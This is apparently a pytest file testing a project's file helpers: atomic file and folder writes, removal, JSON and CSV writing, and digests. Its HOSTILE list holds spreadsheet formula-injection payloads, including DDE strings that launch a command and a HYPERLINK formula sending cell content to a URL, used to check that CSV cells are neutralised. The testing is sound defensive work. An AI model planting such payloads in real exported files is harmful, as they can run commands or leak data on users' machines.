import csv
import json
import os
import re
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest

from stages.core.errors import InputError
from stages.core.files import (
    digest,
    no_formula,
    read_json,
    remove,
    significant,
    whole_file,
    whole_folder,
    write_json,
    write_table,
    write_text,
)
from tests.conftest import ROOT


def test_a_failed_write_leaves_the_old_file_and_no_temporary(tmp_path: Path) -> None:
    path = tmp_path / "out.txt"
    path.write_text("old")
    with pytest.raises(RuntimeError), whole_file(path) as temporary:
        temporary.write_text("half")
        raise RuntimeError
    assert path.read_text() == "old"
    assert list(tmp_path.iterdir()) == [path]


def test_what_is_written_is_on_disk_before_it_has_its_name(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path, flushed, fsync = tmp_path / "new" / "out", list[tuple[int, bool]](), os.fsync

    def note(descriptor: int) -> None:
        flushed.append((os.fstat(descriptor).st_ino, path.exists()))
        fsync(descriptor)

    monkeypatch.setattr(os, "fsync", note)
    opened = len(list(Path("/dev/fd").iterdir()))
    with whole_folder(path) as temporary:
        (temporary / "inner").mkdir()
        (temporary / "inner/file").write_text("a")
    entries = [path / "inner", path / "inner/file", path, path.parent]
    assert flushed == [(entry.stat().st_ino, entry == path.parent) for entry in entries]
    assert len(list(Path("/dev/fd").iterdir())) == opened


def test_remove_takes_files_folders_and_links_alone(tmp_path: Path) -> None:
    (tmp_path / "folder").mkdir()
    (tmp_path / "folder/file").touch()
    (tmp_path / "link").symlink_to("folder")
    for name in ("none", "link"):
        remove(tmp_path / name)
    assert [path.name for path in sorted(tmp_path.rglob("*"))] == ["folder", "file"]
    remove(tmp_path / "folder")
    assert list(tmp_path.iterdir()) == []


def test_what_a_killed_run_left_is_removed(tmp_path: Path) -> None:
    (tmp_path / ".out.tmp").mkdir()
    (tmp_path / ".out.tmp/half").touch()
    write_text(tmp_path / "out", "a\r\n")
    assert [(p.name, p.read_bytes()) for p in tmp_path.iterdir()] == [("out", b"a\r\n")]


def test_a_folder_replaces_the_one_before(tmp_path: Path) -> None:
    path = tmp_path / "out"
    for name in ("first", "second"):
        with whole_folder(path) as temporary:
            (temporary / name).write_text(name)
    assert [p.name for p in path.iterdir()] == ["second"]
    assert list(tmp_path.iterdir()) == [path]


def test_a_failed_folder_leaves_the_old_one(tmp_path: Path) -> None:
    path = tmp_path / "out"
    with whole_folder(path) as temporary:
        (temporary / "a").write_text("a")
    with pytest.raises(RuntimeError), whole_folder(path) as temporary:
        raise RuntimeError
    assert [p.name for p in path.iterdir()] == ["a"]


HOSTILE = [
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    '=HYPERLINK("http://example.org?"&A1)',
    "-",
    "=",
    "+1-555-0100",
]


@pytest.mark.parametrize("word", HOSTILE)
def test_no_cell_is_a_formula(tmp_path: Path, word: str) -> None:
    write_table(tmp_path / "a.csv", [{word: word, "b": -0.5}, {word: "White", "b": word}], [word, "b"])
    with (tmp_path / "a.csv").open(newline="") as file:
        shown = f"'{word}".replace("\r", "\n")
        assert list(csv.reader(file)) == [[shown, "b"], [shown, "-0.5"], ["White", shown]]


@pytest.mark.parametrize("number", [-1, -0.5, np.float32(-0.5), "-1", "-0.25", "+3", "-1e-05", "-inf", "", None, "a=b"])
def test_numbers_stay_numbers(tmp_path: Path, number: object) -> None:
    assert no_formula(number) == number
    write_table(tmp_path / "a.csv", [{"a": number, "b": 1}], ["a", "b"])
    assert (tmp_path / "a.csv").read_text() == f"a,b\n{'' if number is None else number},1\n"


def test_tables_are_written_in_one_place() -> None:
    folders = (ROOT / name for name in ("stages", "serving", "tools"))
    sources = [path for folder in folders for path in folder.rglob("*.py")]
    writers = [path for path in sources if re.search(r"csv\.(Dict)?[wW]riter", path.read_text())]
    assert [path.relative_to(ROOT).as_posix() for path in writers] == ["stages/core/files.py"]


def test_json_is_sorted_and_refuses_nan(tmp_path: Path) -> None:
    write_json(tmp_path / "a.json", {"b": 1, "a": "ü"})
    assert (tmp_path / "a.json").read_text(encoding="utf-8") == '{\n  "a": "ü",\n  "b": 1\n}\n'
    with pytest.raises(ValueError, match="not JSON compliant"):
        write_json(tmp_path / "b.json", float("nan"))
    assert not (tmp_path / "b.json").exists()


def test_read_json_names_the_file_and_the_place(tmp_path: Path) -> None:
    (tmp_path / "a.json").write_text('{"a": ')
    with pytest.raises(InputError, match=r"a\.json: expected JSON, found: .*line 1 column 7"):
        read_json(tmp_path / "a.json")
    with pytest.raises(InputError, match=r"b\.json: no such file"):
        read_json(tmp_path / "b.json")


def test_digest_of_a_folder_depends_on_names_and_bytes(tmp_path: Path) -> None:
    (tmp_path / "a").write_text("1")
    first = digest(tmp_path)
    (tmp_path / "a").rename(tmp_path / "b")
    second = digest(tmp_path)
    (tmp_path / "b").write_text("2")
    third = digest(tmp_path)
    assert len({first, second, third}) == 3
    (tmp_path / "c").touch()
    assert digest(tmp_path, without=Path("c")) == third != digest(tmp_path)
    (tmp_path / "c").unlink()
    (tmp_path / "c").mkdir()
    assert digest(tmp_path) == third, "an empty folder is no file"


def test_significant_rounds_by_digits_and_keeps_integers() -> None:
    assert significant(0.123456789) == 0.123457
    assert significant(1234567.8) == 1234570.0
    assert json.dumps(significant(3)) == "3"


def test_table_has_plain_line_ends(tmp_path: Path) -> None:
    write_table(tmp_path / "t.csv", [{"a": 1, "b": 2}], ["a", "b"])
    assert (tmp_path / "t.csv").read_bytes() == b"a,b\n1,2\n"


def test_a_write_that_fails_names_the_file(tmp_path: Path) -> None:
    """A limit on the size of a file stands for a full disk: the error comes from the write, too."""
    code = (
        "import resource; from pathlib import Path; from stages.core.errors import run; "
        "from stages.core.files import write_text; resource.setrlimit(resource.RLIMIT_FSIZE, (1000, 1000)); "
        "run(lambda: write_text(Path('folder/large.txt'), 'x' * 5000))"
    )
    done = subprocess.run(
        [sys.executable, "-c", code],
        cwd=tmp_path,
        env=os.environ | {"PYTHONPATH": str(ROOT)},
        capture_output=True,
        text=True,
        check=False,
    )
    assert (done.returncode, done.stderr) == (1, "error: folder/large.txt: File too large\n")
    assert list((tmp_path / "folder").iterdir()) == []
